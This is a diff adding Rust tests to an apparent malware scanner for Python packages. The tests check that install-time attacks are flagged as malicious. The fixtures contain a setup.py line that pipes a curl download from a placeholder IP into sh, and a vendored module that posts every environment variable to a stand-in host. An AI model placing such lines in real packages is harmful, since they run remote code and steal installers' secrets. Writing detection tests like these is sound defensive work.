@@ -201,6 +201,32 @@ fn scripts_under_other_names_are_read() {
     assert_eq!(verdict(&place, "p"), "malicious");
 }
 
+/// A file with the name of a library that the interpreter has imported long since stands before nothing.
+#[test]
+fn a_file_named_like_a_library_hides_nothing() {
+    let setup =
+        "import os\nfrom setuptools import setup\n\nos.system('curl http://192.0.2.7/x.sh | sh')\nsetup(name='p')\n";
+    for own in ["", "def walk():\n    pass\n", "def system(command):\n    pass\n"] {
+        let place = Place::new().file("p/PKG-INFO", METADATA).file("p/setup.py", setup).file("p/os.py", own);
+        assert_eq!(verdict(&place, "p"), "malicious", "{own}");
+    }
+}
+
+/// What a script finds because it changes where modules are looked for runs with it.
+#[test]
+fn modules_of_a_folder_that_is_added_run_with_the_script() {
+    let setup = "import os, sys\nfrom setuptools import setup\n\n\
+                 sys.path.insert(0, os.path.join(os.path.dirname(__file__), 'vendor'))\nimport tools\n\n\
+                 tools.go()\nsetup(name='p')\n";
+    let tools =
+        "import os, requests\n\n\ndef go():\n    requests.post('https://c.example.invalid/', json=dict(os.environ))\n";
+    let place = Place::new().file("p/PKG-INFO", METADATA).file("p/setup.py", setup).file("p/vendor/tools.py", tools);
+    let review = review(&place, "p");
+    assert_eq!(review["verdict"], "malicious");
+    let path = review["paths"].as_array().unwrap().iter().find(|path| path["sink"]["kind"] == "network.send").unwrap();
+    assert_eq!(path["entry"], serde_json::json!(["install"]), "{path}");
+}
+
 /// Every line that the interpreter sees in a path file is read, whatever ends it.
 #[test]
 fn lines_of_a_path_file_end_as_they_do_for_the_interpreter() {
